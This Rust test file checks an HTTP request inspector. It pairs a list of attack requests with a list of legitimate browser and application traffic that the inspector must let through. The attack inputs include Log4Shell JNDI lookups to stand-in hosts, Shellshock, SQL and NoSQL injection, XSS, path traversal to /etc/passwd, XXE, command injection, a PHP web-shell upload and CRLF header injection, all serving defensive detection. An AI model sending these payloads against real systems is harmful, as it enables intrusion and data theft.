//! Whole requests: attacks at the places where few look, and what browsers, applications and their tools send.

use crate::families_tests::{escaped, report};
use crate::inspector::Inspector;
use crate::report::Report;
use crate::request::Header;

/// Target, one header field, body; a body has the type that the field says.
type Sent<'a> = (&'a str, (&'a str, &'a str), &'a str);

fn inspect(inspector: &Inspector, (target, (name, value), body): &Sent<'_>) -> Report {
    report(inspector, target, &[Header { name, value: value.as_bytes() }], body.as_bytes())
}

/// Attacks and the word for the place in which each is.
const ATTACKS: &[(Sent<'_>, &str)] = &[
    (("/", ("User-Agent", "${jndi:ldap://x.example/a}"), ""), "header `user-agent`"),
    (("/", ("User-Agent", "() { :; }; /bin/id"), ""), "header `user-agent`"),
    (("/", ("X-Forwarded-For", "127.0.0.1' or 1=1-- "), ""), "header `x-forwarded-for`"),
    (("/", ("X-Api-Version", "${${lower:j}ndi:dns://x}"), ""), "header `x-api-version`"),
    (("/", ("Accept-Language", "${jndi:rmi://x.example/a}"), ""), "header `accept-language`"),
    (("/", ("Authorization", "Bearer ${jndi:ldap://x}"), ""), "header `authorization`"),
    (("/", ("Referer", "https://a.example/?q=<script>alert(1)</script>"), ""), "header `referer`"),
    (("/", ("Referer", "https://a.example/?id=1%27%20or%20%271%27=%271"), ""), "header `referer`"),
    (("/", ("Cookie", "lang=en; id=1' union select 1,2-- "), ""), "cookie `id`"),
    (("/", ("Cookie", "data=rO0ABXNyABFqYXZh"), ""), "cookie `data`"),
    (("/", ("Cookie", "t=%3Csvg%20onload%3Dalert(1)%3E"), ""), "cookie `t`"),
    (("/a/1'+or+'1'='1", ("Accept", "*/*"), ""), "path"),
    (("/static/..%2f..%2f..%2fetc/passwd", ("Accept", "*/*"), ""), "path"),
    (("/..;/..;/manager/html/../../etc/passwd", ("Accept", "*/*"), ""), "path"),
    (("/PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", ("Accept", "*/*"), ""), "path"),
    (("/?a=1&b[$ne]=2&c=3", ("Accept", "*/*"), ""), "query argument `b[$ne]`"),
    (("/?<script>alert(1)</script>", ("Accept", "*/*"), ""), "query"),
    (("/?x={\"a\":\"' or 1=1-- \"}", ("Accept", "*/*"), ""), "query argument `x`"),
    (("/", ("Content-Type", "application/json"), "{\"a\":{\"b\":[1,\"' or 1=1-- \"]}}"), "body field `a.b`"),
    (("/", ("Content-Type", "application/json"), "{\"u\":{\"$gt\":\"\"},\"p\":{\"$ne\":null}}"), "body"),
    (("/", ("Content-Type", "application/json"), "{\"__proto__\":{\"admin\":true}}"), "body"),
    (("/", ("Content-Type", "application/vnd.api+json"), "{\"a\":\"<img src=x onerror=alert(1)>\"}"), "body field `a`"),
    (
        ("/graphql", ("Content-Type", "application/json"), "{\"query\":\"{ user(id: \\\"1' or '1'='1\\\") { id } }\"}"),
        "body",
    ),
    (("/", ("Content-Type", "text/plain"), "{\"a\":\"; cat /etc/hosts\"}"), "body field `a`"),
    (("/", ("Content-Type", "application/x-www-form-urlencoded"), "a=1&b=%3Bcat+%2Fetc%2Fhosts"), "body field `b`"),
    (("/", ("Content-Type", "application/xml"), "<a><b>' or 1=1-- </b></a>"), "body"),
    (("/", ("Content-Type", "text/xml"), "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///x'>]><a>&b;</a>"), "body"),
    (
        (
            "/",
            ("Content-Type", "multipart/form-data; boundary=b"),
            "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../../etc/passwd\"\r\n\r\nx\r\n--b--",
        ),
        "body field `f`",
    ),
    (
        (
            "/",
            ("Content-Type", "multipart/form-data; boundary=b"),
            "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.jpg\"\r\n\r\nGIF89a<?php system($_GET[1]); ?>\r\n--b--",
        ),
        "body field `f`",
    ),
    (
        (
            "/",
            ("Content-Type", "multipart/form-data; boundary=\"b\""),
            "--b\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n' or 1=1-- \r\n--b--",
        ),
        "body field `q`",
    ),
];

/// What browsers and applications send.
const LEGITIMATE: &[Sent<'_>] = &[
    (
        "/",
        (
            "User-Agent",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
        ),
        "",
    ),
    ("/", ("Accept", "text/html,application/xhtml+xml;q=0.9,image/avif,*/*;q=0.8"), ""),
    ("/", ("Cookie", "_ga=GA1.2.1234567890.1700000000; _gid=GA1.2.987654321.1700000000; theme=dark"), ""),
    (
        "/",
        (
            "Cookie",
            "OptanonConsent=isGpcEnabled=0&datestamp=Tue+Nov+21+2023+10%3A00%3A00+GMT%2B0100&groups=C0001%3A1%2CC0002%3A0",
        ),
        "",
    ),
    ("/", ("Cookie", "prefs={\"lang\":\"de\",\"tz\":\"Europe/Berlin\",\"on\":true}"), ""),
    (
        "/",
        (
            "Cookie",
            "session=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gTydOZWlsbCJ9.abc-_123",
        ),
        "",
    ),
    ("/", ("Authorization", "Basic YWxpY2U6cCdhc3Mgb3Igd29yZA=="), ""),
    ("/", ("If-None-Match", "W/\"5f3-18b9c2d4e00\""), ""),
    ("/", ("Content-Disposition", "attachment; filename=\"a' b.txt\"; filename*=UTF-8''a%27%20b.txt"), ""),
    ("/", ("Referer", "https://www.google.com/search?q=select+a+union+of+2+tables&oq=select"), ""),
    ("/", ("Referer", "https://example.com/a/b/../c?utm_source=x&utm_medium=email&utm_campaign=it%27s+on"), ""),
    (
        "/collect?v=2&tid=G-ABC&dl=https%3A%2F%2Fexample.com%2F%3Fa%3Db&dt=Tom%20%26%20Jerry%20%7C%20Home&en=page_view",
        ("Accept", "*/*"),
        "",
    ),
    (
        "/login?redirect_uri=https%3A%2F%2Fapp.example.com%2Fcallback%3Fnext%3D%252Fhome&state=a%3Db%3Bc&scope=openid+profile+email",
        ("Accept", "*/*"),
        "",
    ),
    (
        "/bucket/key?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIA%2F20231121%2Feu-west-1%2Fs3%2Faws4_request&X-Amz-SignedHeaders=host",
        ("Accept", "*/*"),
        "",
    ),
    ("/search?q=how+to+select+from+a+table+where+id+%3D+5", ("Accept", "*/*"), ""),
    ("/search?q=%22exact+phrase%22+-without+site%3Aexample.com+OR+site%3Aexample.org", ("Accept", "*/*"), ""),
    ("/search?q=C%2B%2B+std%3A%3Avector%3Cint%3E+%26+references", ("Accept", "*/*"), ""),
    (
        "/rest/api/2/search?jql=project+%3D+ABC+AND+status+in+%28Open%2C+%22In+Progress%22%29+ORDER+BY+created+DESC",
        ("Accept", "*/*"),
        "",
    ),
    (
        "/api/v1/query?query=sum%28rate%28http_requests_total%7Bjob%3D%22api%22%7D%5B5m%5D%29%29+by+%28status%29+%3E+0",
        ("Accept", "*/*"),
        "",
    ),
    (
        "/odata/People?$filter=Name%20eq%20%27O%27%27Neill%27%20and%20Age%20gt%205&$orderby=Name%20desc&$top=10",
        ("Accept", "*/*"),
        "",
    ),
    ("/items?filter[price][gte]=10&filter[name]=a%27s&sort=-created_at,name&page[size]=20", ("Accept", "*/*"), ""),
    ("/items?where={\"price\":{\"gt\":5},\"name\":\"O'Hara\"}", ("Accept", "*/*"), ""),
    ("/maps/@52.52,13.40,12z/data=!3m1!4b1!4m5!3m4", ("Accept", "*/*"), ""),
    ("/wiki/C++_(programming_language)", ("Accept", "*/*"), ""),
    ("/wiki/Rock_%27n%27_Roll", ("Accept", "*/*"), ""),
    ("/static/js/main.3f2a1b.chunk.js.map", ("Accept", "*/*"), ""),
    ("/npm/@babel/core@7.0.0/lib/index.js", ("Accept", "*/*"), ""),
    ("/combo?a.js&b.js&c/d.css", ("Accept", "*/*"), ""),
    ("/img?w=300&h=200&url=https%3A%2F%2Fcdn.example.com%2Fa%2Fb.jpg%3Fv%3D2", ("Accept", "*/*"), ""),
    ("/t?d=eyJldmVudCI6InBhZ2UgdmlldyIsInVybCI6Imh0dHBzOi8vZXhhbXBsZS5jb20vP2E9YiJ9", ("Accept", "*/*"), ""),
    ("/repo.git/info/refs?service=git-upload-pack", ("Accept", "*/*"), ""),
    (
        "/graphql",
        ("Content-Type", "application/json"),
        "{\"operationName\":\"Q\",\"variables\":{\"id\":\"7\"},\"query\":\"query Q($id: ID!) { node(id: $id) { ... on User { name posts(first: 5, orderBy: {field: DATE, direction: DESC}) { edges { node { title } } } } } }\"}",
    ),
    (
        "/_search",
        ("Content-Type", "application/json"),
        "{\"query\":{\"bool\":{\"must\":[{\"match\":{\"title\":\"select or delete\"}},{\"range\":{\"date\":{\"gte\":\"now-1d/d\"}}}]}},\"sort\":[{\"date\":\"desc\"}]}",
    ),
    (
        "/wp-json/wp/v2/posts/7",
        ("Content-Type", "application/json"),
        "{\"content\":\"<!-- wp:paragraph --><p>It's <a href=\\\"https://example.com\\\">here</a> & there; \\\"quoted\\\"</p><!-- /wp:paragraph -->\"}",
    ),
    (
        "/api/messages",
        ("Content-Type", "application/json"),
        "{\"text\":\"Run `npm install` and then `npm start`. If it fails; delete node_modules & try again.\"}",
    ),
    (
        "/api/messages",
        ("Content-Type", "application/json"),
        "{\"text\":\"hey, can you select the top 5 from the list or order by date? it's 1 of 2 :)\"}",
    ),
    (
        "/api/comments",
        ("Content-Type", "application/json"),
        "{\"body\":\"I think a < b and b > c, or 1 = one. What's your take?\\n\\nfrom: me\\nto: you\"}",
    ),
    (
        "/api/review",
        ("Content-Type", "application/json"),
        "{\"diff\":\"-  if (a == b) {\\n+  if (a === b && c) {\\n+    return this.items[0](x);\\n   }\"}",
    ),
    (
        "/envelope",
        ("Content-Type", "text/plain;charset=UTF-8"),
        "{\"sdk\":{\"name\":\"js\"}}\n{\"type\":\"event\"}\n{\"message\":\"TypeError: Cannot read properties of undefined (reading 'map')\",\"filename\":\"https://example.com/app.js\",\"function\":\"Object.<anonymous>\"}",
    ),
    (
        "/csp",
        ("Content-Type", "application/csp-report"),
        "{\"csp-report\":{\"blocked-uri\":\"inline\",\"violated-directive\":\"script-src 'self' 'unsafe-eval'\",\"original-policy\":\"default-src 'none'; script-src 'self' data: blob:\"}}",
    ),
    (
        "/contact",
        ("Content-Type", "application/x-www-form-urlencoded"),
        "name=Sean+O%27Brien&message=Hi%2C%0D%0A%0D%0AI%27d+like+to+order+2+%26+pay+by+card%3B+call+me+at+10%3A30.%0D%0A%0D%0A--+%0D%0ASean&agree=on",
    ),
    (
        "/contact",
        ("Content-Type", "application/x-www-form-urlencoded"),
        "address=Flat+5%2F6%2C+12-14+King%27s+Rd%3B+ring+%22O%27Hara%22&city=Val-d%27Or",
    ),
    (
        "/admin/post",
        ("Content-Type", "application/x-www-form-urlencoded"),
        "html=%3Ch2+style%3D%22text-align%3Acenter%22%3EHello%3C%2Fh2%3E%3Cp%3E%3Cimg+src%3D%22%2Fa.png%22+alt%3D%22x%22+%2F%3E%3C%2Fp%3E",
    ),
    (
        "/saml",
        ("Content-Type", "application/x-www-form-urlencoded"),
        "SAMLResponse=PHNhbWxwOlJlc3BvbnNlIHhtbG5zOnNhbWxwPSJ1cm46b2FzaXM6bmFtZXM6dGM6U0FNTDoyLjA6cHJvdG9jb2wiPjwvc2FtbHA6UmVzcG9uc2U%2B&RelayState=%2F",
    ),
    (
        "/soap",
        ("Content-Type", "text/xml; charset=utf-8"),
        "<?xml version=\"1.0\"?><soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body><Get xmlns=\"urn:x\"><Name>O'Neill &amp; Sons</Name></Get></soap:Body></soap:Envelope>",
    ),
    (
        "/feed",
        ("Content-Type", "application/atom+xml"),
        "<feed xmlns=\"http://www.w3.org/2005/Atom\"><entry><title>Select &lt;b&gt;one&lt;/b&gt; or more</title></entry></feed>",
    ),
    (
        "/upload",
        ("Content-Type", "multipart/form-data; boundary=b"),
        "--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"Anna's notes (1).txt\"\r\nContent-Type: text/plain\r\n\r\nDear all,\nselect one or two; drop me a line.\n\r\n--b--",
    ),
    (
        "/upload",
        ("Content-Type", "multipart/form-data; boundary=b"),
        "--b\r\nContent-Disposition: form-data; name=\"svg\"; filename=\"a.svg\"\r\n\r\n<svg xmlns=\"http://www.w3.org/2000/svg\"><path d=\"M0 0\"/></svg>\r\n--b--",
    ),
    (
        "/logs",
        ("Content-Type", "application/x-ndjson"),
        "{\"level\":\"error\",\"msg\":\"exec: \\\"git\\\": executable file not found in $PATH\"}\n{\"msg\":\"GET /etc/x 404; id=7\"}",
    ),
];

#[test]
fn finds_attacks_where_few_look() {
    let inspector = Inspector::new();
    for (sent, place) in ATTACKS {
        let report = inspect(&inspector, sent);
        let places: Vec<_> = report.findings.iter().map(|it| it.place.to_string()).collect();
        assert!(report.is_attack() && places.iter().any(|it| it.starts_with(place)), "{sent:?}: {report:?}");
    }
}

#[test]
fn lets_what_browsers_and_applications_send_pass() {
    let inspector = Inspector::new();
    let taken: Vec<_> = LEGITIMATE
        .iter()
        .map(|sent| (sent.0, sent.2, inspect(&inspector, sent)))
        .filter(|it| it.2.is_attack())
        .map(|it| (it.0, it.1, it.2.findings.iter().map(|it| it.sentence()).collect::<Vec<_>>()))
        .collect();
    assert!(taken.is_empty(), "{} taken: {taken:#?}", taken.len());
}

#[test]
fn a_line_break_before_a_field_is_found_and_lines_of_a_text_pass() {
    let inspector = Inspector::new();
    let is_attack = |text: &str| report(&inspector, &format!("/?to={}", escaped(text)), &[], b"").is_attack();
    for text in [
        "a\r\nSet-Cookie: x=1",
        "a\nLocation: https://x.example",
        "a\r\n\r\nHTTP/1.1 200 OK",
        "a@x.example\r\nBcc: b@x.example",
        "a\r\nRCPT TO:<b@x.example>",
        "a\r\nX-Injected: 1",
        "a\u{560d}\u{560a}Set-Cookie: x=1",
        "\r\nv1 CAPABILITY",
    ] {
        assert!(is_attack(text), "{text:?}");
    }
    for text in [
        "one\ntwo\r\nthree",
        "12 King's Road\r\nLondon",
        "Dear all,\n\nthanks: see you",
        "- a\n- b\n",
        "note: x\nmore: y",
        "10:30\n11:30",
    ] {
        assert!(!is_attack(text), "{text:?}");
    }
}
